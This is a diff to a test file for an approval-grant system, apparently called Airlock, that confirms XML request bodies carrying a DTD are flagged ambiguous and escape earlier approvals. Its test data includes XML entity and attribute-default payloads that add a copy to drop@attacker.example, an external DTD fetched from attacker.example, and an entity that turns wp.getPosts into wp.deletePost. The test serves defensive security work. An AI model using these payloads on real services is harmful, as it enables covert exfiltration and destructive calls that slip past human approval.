@@ -2099,6 +2099,44 @@ t.test('a switch spelled 0/1, yes/no or on/off, and a mode by its name, are part
   t.ok(await grantedFor(queue, note('a', [['DNT', '1'], ['Sec-Fetch-Mode', 'cors']]), note('bb', [['DNT', '0'], ['Sec-Fetch-Mode', 'no-cors']])), 'other text, another count and standard headers are still covered');
 });
 
+// An XML body's DTD changes what XML parsers read: Python's ElementTree and xmlrpc.server (expat)
+// expand internal entities to text or markup and apply `<!ATTLIST>` defaults, while Airlock's reader
+// leaves `&x;` as written. A grant for a message to alice (a REST XML call, SOAP, XML-RPC) covered the
+// same text with a DTD making the server read a copy to the attacker, or `wp.deletePost` for the
+// approved method. Python is the oracle of what the server reads.
+t.test('an XML body with a DTD reads two ways: no grant covers it (seventeenth pass)', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const rest = '<message><to>alice@corp.example</to><text>hi</text></message>';
+  const rpc = '<methodCall><methodName>wp.getPosts</methodName><params/></methodCall>';
+  const forms: Array<[string, string, string, string]> = [
+    // [name, url, approved, later]
+    ['an entity expanding to markup', 'https://mail.example/api/send', rest, '<!DOCTYPE message [<!ENTITY x "<cc>drop@attacker.example</cc>">]><message><to>alice@corp.example</to>&x;<text>hi</text></message>'],
+    ['a default attribute', 'https://mail.example/api/send', rest, '<!DOCTYPE message [<!ATTLIST message cc CDATA "drop@attacker.example">]><message><to>alice@corp.example</to><text>hi</text></message>'],
+    ['an entity in a SOAP body', 'https://erp.example/soap', '<Envelope><Body><Send><To>alice</To></Send></Body></Envelope>', '<!DOCTYPE Envelope [<!ENTITY x "<Bcc>drop@attacker.example</Bcc>">]><Envelope><Body><Send><To>alice</To>&x;</Send></Body></Envelope>'],
+    ['the method by entity (XML-RPC)', 'https://blog.example.org/xmlrpc.php', '<!DOCTYPE m [<!ENTITY n "wp.getPosts">]><methodCall><methodName>&n;</methodName><params/></methodCall>', '<!DOCTYPE m [<!ENTITY n "wp.deletePost">]><methodCall><methodName>&n;</methodName><params/></methodCall>'],
+    ['an external DTD', 'https://blog.example.org/xmlrpc.php', rpc, `<?xml version="1.0"?><!DOCTYPE methodCall SYSTEM "https://attacker.example/m.dtd">${rpc}`],
+  ];
+  const oracle = JSON.parse(execFileSync('python3', ['-c', `
+import json, sys, xml.etree.ElementTree as ET
+print(json.dumps([sorted({(e.tag, (e.text or '').strip()) for e in ET.fromstring(b).iter()} | {(k, v) for e in ET.fromstring(b).iter() for k, v in e.attrib.items()}) for b in json.load(sys.stdin)]))
+`], { input: JSON.stringify(forms.slice(0, 3).map((f) => f[3])) }).toString()) as Array<Array<[string, string]>>;
+  for (const read of oracle) t.ok(read.some(([k, v]) => /cc$/i.test(k) && v === 'drop@attacker.example'), `Python reads the copy to the attacker (${JSON.stringify(read)})`);
+  await fc.assert(fc.asyncProperty(fc.constantFrom(...forms), fc.constantFrom('application/xml', 'text/xml', 'text/plain', ''), async ([, url, approved, later], type) => {
+    const first = call16('POST', url, approved, type);
+    const second = call16('POST', url, later, type);
+    // An approved body with a DTD gives no grant either.
+    if (first.request.body.ambiguous) return !(await grantedFor(queue, first, first).catch(() => false));
+    return !(await grantedFor(queue, first, second));
+  }), { numRuns: 8, examples: [[forms[0]!, 'application/xml'], [forms[1]!, 'text/xml'], [forms[2]!, 'text/xml'], [forms[3]!, 'text/plain'], [forms[4]!, '']] });
+  for (const [name, url, , later] of forms) t.ok(call16('POST', url, later, 'text/xml').request.body.ambiguous_reasons?.some((r) => r.code === 'xml_dtd'), `${name}: the body is ambiguous (xml_dtd)`);
+  // Controls: the same XML without a DTD is covered; an HTML page's doctype is no DTD.
+  t.ok(await grantedFor(queue, call16('POST', 'https://mail.example/api/send', rest, 'application/xml'), call16('POST', 'https://mail.example/api/send', rest.replace('hi', 'hello'), 'application/xml')), 'XML without a DTD: the same recipient is covered');
+  for (const page of ['<!DOCTYPE html><p>hi</p>', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>']) {
+    t.notOk(call16('POST', 'https://cms.example/pages', page, 'text/html').request.body.ambiguous, `an HTML page's doctype is no ambiguity: ${page.slice(0, 30)}`);
+  }
+});
+
 // Apps choose the organization, tenant or workspace (or a rehearsal) by cookie too (`current_org`,
 // `tenant_id`, `dry_run`), and the description keeps cookies redacted: a grant for a report created
 // in the team's organization covered the same call with `Cookie: org=evil`.
